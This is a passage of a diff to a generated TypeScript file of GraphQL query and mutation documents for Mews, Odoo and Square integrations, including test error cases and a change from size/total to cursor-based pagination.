},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}}]}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"quantity"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"productId"}},{"kind":"Field","name":{"kind":"Name","value":"accountingCategoryId"}},{"kind":"Field","name":{"kind":"Name","value":"discounts"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"type"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"reservation"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"startDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"resourceName"}},{"kind":"Field","name":{"kind":"Name","value":"resourceIdentifier"}},{"kind":"Field","name":{"kind":"Name","value":"resourceId"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"bills"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"invoiceNumber"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"partners"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"address"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}}]}}]}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsOrdersQuery, MewsOrdersQueryVariables>;
+export const MewsTaxesFailureDocument = {"__meta__":{"hash":"6646a546b450add90a2886a874f2f8ecde859ed236af209d02cb3c1b586934fe"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsTaxesFailure"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"1"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsTaxesFailureQuery, MewsTaxesFailureQueryVariables>;
+export const MewsTaxesDocument = {"__meta__":{"hash":"135946aa352b4dbcf13e9e89410cba7e61eb8ba05cf312e9636b302a62717793"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}},{"kind":"Field","name":{"kind":"Name","value":"endCursor"}}]}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"isCityTax"}},{"kind":"Field","name":{"kind":"Name","value":"raw"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsTaxesQuery, MewsTaxesQueryVariables>;
+export const OdooFourContactsDocument = {"__meta__":{"hash":"a46593c0da6971519f8a22e06d6649f723d9a64e850b37af1a213b664e5aeccc"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"OdooFourContacts"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","alias":{"kind":"Name","value":"a"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"StringValue","value":"10","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"addresses"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}}]}}]}},{"kind":"Field","alias":{"kind":"Name","value":"b"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"StringValue","value":"11","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"companyId"}}]}},{"kind":"Field","alias":{"kind":"Name","value":"c"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"StringValue","value":"14","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"isSupplier"}}]}},{"kind":"Field","alias":{"kind":"Name","value":"d"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"remoteId"},"value":{"kind":"StringValue","value":"999","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]} as unknown as DocumentNode<OdooFourContactsQuery, OdooFourContactsQueryVariables>;
+export const OdooCreateProductDocument = {"__meta__":{"hash":"d3277ce61b9b9537952d4ca74585a0ca6d4558ff7037dc40ac745106dd7650f7"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"OdooCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"product"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"unit"}},{"kind":"Field","name":{"kind":"Name","value":"category"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"cost"}},{"kind":"Field","name":{"kind":"Name","value":"availableQuantity"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<OdooCreateProductMutation, OdooCreateProductMutationVariables>;
+export const SquareModifiersErrorDocument = {"__meta__":{"hash":"ec3eabcdfd00e9a9bcfd321e7ca7735d1f967552e78c5c548a33feadf2b2607f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"SquareModifiersError"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]}}]}}]} as unknown as DocumentNode<SquareModifiersErrorQuery, SquareModifiersErrorQueryVariables>;
+export const SquareModifiersDocument = {"__meta__":{"hash":"e73a0b3cdd6f6d9f693c615bb852848bb7bea1d6733087bfddeb0c4d0231c285"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"SquareModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"options"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"price"}}]}},{"kind":"Field","name":{"kind":"Name","value":"raw"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<SquareModifiersQuery, SquareModifiersQueryVariables>;
 export const ErrConsumerDocument = {"__meta__":{"hash":"e1c6ee1c5ad057feb7d76f4db008541de61dd45b422046b2da8f9bf75a87ce10"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}}]} as unknown as DocumentNode<ErrConsumerQuery, ErrConsumerQueryVariables>;
-export const ErrConsumersDocument = {"__meta__":{"hash":"c20af82a5ab514395de6d6867647ddae7c4b92caa41ed0dc7ecd8df83ec14866"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrConsumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<ErrConsumersQuery, ErrConsumersQueryVariables>;
-export const ErrCreateConsumerDocument = {"__meta__":{"hash":"e410e453936268006ab26516f004ba9613c75d3c9bd96e937cc1c061ebc18455"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConsumerInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<ErrCreateConsumerMutation, ErrCreateConsumerMutationVariables>;
-export const ErrTaxesDocument = {"__meta__":{"hash":"0867dae68f05d7e3885e24504c6df7ce9033880dd98fc55847ce2ef52c0145ee"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrTaxesQuery, ErrTaxesQueryVariables>;
-export const ErrOpportunitiesDocument = {"__meta__":{"hash":"7c28d747abee7e92a99365a4e04e0961cdc6cf1cf9c3872f23fda1fbac262eb4"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrOpportunities"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"opportunities"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrOpportunitiesQuery, ErrOpportunitiesQueryVariables>;
-export const ErrContactDocument = {"__meta__":{"hash":"9d86db7e758b6bbdbe54c04862537f6d9d63405106465cde8877296c9c8a8111"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrContact"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"contact"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"contact"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrContactQuery, ErrContactQueryVariables>;
-export const ErrModifiersDocument = {"__meta__":{"hash":"465f54627cee25fa67c4ffc9d7770c6bb8a3c6f5c9d448c2a044dd68d5e7fabe"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrModifiersQuery, ErrModifiersQueryVariables>;
-export const ErrCreateProductDocument = {"__meta__":{"hash":"d21a095ba2d5de19b2a5f8522e18c0b78e6945e3a0d7a57eea34db9e1f72962f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}}]} as unknown as DocumentNode<ErrCreateProductMutation, ErrCreateProductMutationVariables>;
-export const ErrCreateWebhookDocument = {"__meta__":{"hash":"0c068ffcfd02effe987c36ec3bc8b7cdf1268dc8cb80c51f2474a99274b4af1d"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateWebhook"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateWebhookInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createWebhook"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<ErrCreateWebhookMutation, ErrCreateWebhookMutationVariables>;
+export const ErrConsumersDocument = {"__meta__":{"hash":"f0c2b77d679a19bbb671974abf4f232cdb681ca9b746eca1ab5a4aac19f09914"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrConsumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]}}]} as unknown as DocumentNode<ErrConsumersQuery, ErrConsumersQueryVariables>;
+export const ErrCreateConsumerDocument = {"__meta__":{"hash":"215a03ba72c33f963b79e9c2db432ad18ed401264fb4c89c2fcc4b1298abb517"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"ErrCreateConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateConsumerInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createConsumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"userErrors"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"field"}},{"kind":"Field","name":{"kind":"Name","value":"message"}}]}}]}}]}}]} as unknown as DocumentNode<ErrCreateConsumerMutation, ErrCreateConsumerMutationVariables>;
+export const ErrTaxesDocument = {"__meta__":{"hash":"ef05c94693220e5776605ae342b6be2c21341c5b4ba68d7209671d3d2fbb9e2c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ErrTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"2"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ErrTaxesQuery, ErrTaxesQueryVariables>;
